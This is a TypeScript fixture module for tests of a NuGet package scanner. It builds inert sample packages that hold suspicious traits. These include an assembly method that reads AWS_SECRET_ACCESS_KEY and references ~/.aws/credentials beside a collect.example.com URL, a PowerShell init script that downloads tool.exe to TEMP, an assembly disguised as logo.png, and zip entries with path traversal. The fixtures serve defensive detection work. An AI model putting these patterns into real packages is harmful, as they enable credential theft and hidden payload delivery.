import { inspectPackage, type Inspection } from '../../src/inspect/index.js';
import type { Fact, FactKind, FactOf } from '../../src/facts/fact.js';
import {
  assemble,
  method,
  type AssemblySpec,
  type InstructionSpec,
} from '../kit/cil-assembler/assemble.js';
import { grammars } from '../kit/inspected.js';
import { buildElf } from '../kit/native/elf-builder.js';
import { buildPackage, type PackageText } from '../kit/package-builder.js';
import type { ZipFile } from '../kit/zip-builder.js';

const tool = { version: '0.0.0', rulesDigest: '0'.repeat(64) };

/** Reads a package through the one public door. */
export function inspected(bytes: Uint8Array): Promise<Inspection> {
  return inspectPackage(bytes, { tool, grammars });
}

/** Reads a package that is given as files. */
export function inspectedFiles(
  files: PackageText['files'],
  more: Omit<PackageText, 'files'> = {},
): Promise<Inspection> {
  return inspected(buildPackage({ ...more, files }));
}

export function factsOf<K extends FactKind>(
  { facts }: { readonly facts: { readonly all: readonly Fact[] } },
  kind: K,
): FactOf<K>[] {
  return facts.all.filter((fact): fact is FactOf<K> => fact.kind === kind);
}

/** An assembly with one class, one static method, and that body. */
export function codeAssembly(
  body: readonly InstructionSpec[],
  more: Partial<AssemblySpec> = {},
): Uint8Array {
  const types = [{ name: 'Fixture.Thing', methods: [{ name: 'Do', body: [...body, ['ret']] }] }];
  return assemble({ name: 'Fixture', types, ...more } as AssemblySpec);
}

const getVariable = method(
  '[System.Runtime]System.Environment',
  'GetEnvironmentVariable',
  'string',
  ['string'],
);
const setVariable = method('[System.Runtime]System.Environment', 'SetEnvironmentVariable', 'void', [
  'string',
  'string',
]);
const ps1 = 'Invoke-WebRequest -Uri https://files.test/tool.exe -OutFile $env:TEMP/tool.exe\n';
const targets = `<Project InitialTargets="Early">
  <PropertyGroup><Text>$([System.IO.File]::ReadAllText('a.txt'))</Text></PropertyGroup>
  <Target Name="Early" BeforeTargets="Build"><Exec Command="echo hello" /></Target>
</Project>
`;

export const innerAssembly = codeAssembly([['ldstr', 'https://inner.test/upload'], ['pop']]);

/** A library that does a little of everything, none of which is ever run. */
export function busyAssembly(): Uint8Array {
  return assemble({
    name: 'Fixture.Busy',
    resources: [
      { name: 'plain.txt', bytes: Buffer.from('hello') },
      { name: 'inner.bin', bytes: innerAssembly },
    ],
    types: [
      {
        name: 'Fixture.Busy.Client',
        methods: [
          {
            name: 'Send',
            params: ['string', 'bool'],
            paramNames: ['password', 'isSandbox'],
            body: [
              ['ldarg.1'],
              ['brtrue', 'end'],
              ['ldstr', 'AWS_SECRET_ACCESS_KEY'],
              ['call', getVariable],
              ['pop'],
              ['ldstr', 'https://collect.example.com/v1'],
              ['pop'],
              ['ldstr', '~/.aws/credentials'],
              ['pop'],
              ['label', 'end'],
              ['ret'],
            ],
          },
          {
            name: 'Keep',
            body: [
              ['ldstr', 'FIXTURE_KEPT'],
              ['ldstr', 'AWS_SECRET_ACCESS_KEY'],
              ['call', getVariable],
              ['call', setVariable],
              ['ret'],
            ],
          },
          { name: 'getpid', returns: 'int32', pinvoke: { library: 'libc' } },
        ],
      },
    ],
  });
}

/** What cannot be read, and what no honest packer writes. */
export const oddEntries: readonly ZipFile[] = [
  { name: 'docs/locked.txt', content: 'x', method: 0, flags: 1 },
  { name: 'docs/../escaped.txt', content: 'y', method: 0 },
];

/** A package that puts something into every list of the report. */
export function richPackage(more: Partial<PackageText> = {}): Uint8Array {
  return buildPackage({
    id: 'Rich',
    dependencies: { 'Other.Package': '1.0.0' },
    files: {
      'Rich.nuspec': manifest('Rich'),
      'lib/net8.0/Fixture.Busy.dll': busyAssembly(),
      'runtimes/linux-x64/native/libthing.so': buildElf({
        needed: ['libc.so.6'],
        imported: ['fopen'],
      }),
      'build/Rich.targets': targets,
      'tools/init.ps1': ps1,
      'tools/logo.png': innerAssembly,
    },
    entries: (honest) => [...honest, ...oddEntries],
    ...more,
  });
}

/** A whole nuspec of schema 2013/05. */
export const manifest = (id: string): string => `<?xml version="1.0" encoding="utf-8"?>
<package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd">
  <metadata>
    <id>${id}</id>
    <version>1.0.0</version>
    <authors>Fixtures</authors>
    <description>An inert fixture, never published.</description>
    <packageTypes><packageType name="Dependency" /></packageTypes>
    <dependencies>
      <group targetFramework="net8.0"><dependency id="Other.Package" version="1.0.0" /></group>
    </dependencies>
  </metadata>
</package>
`;
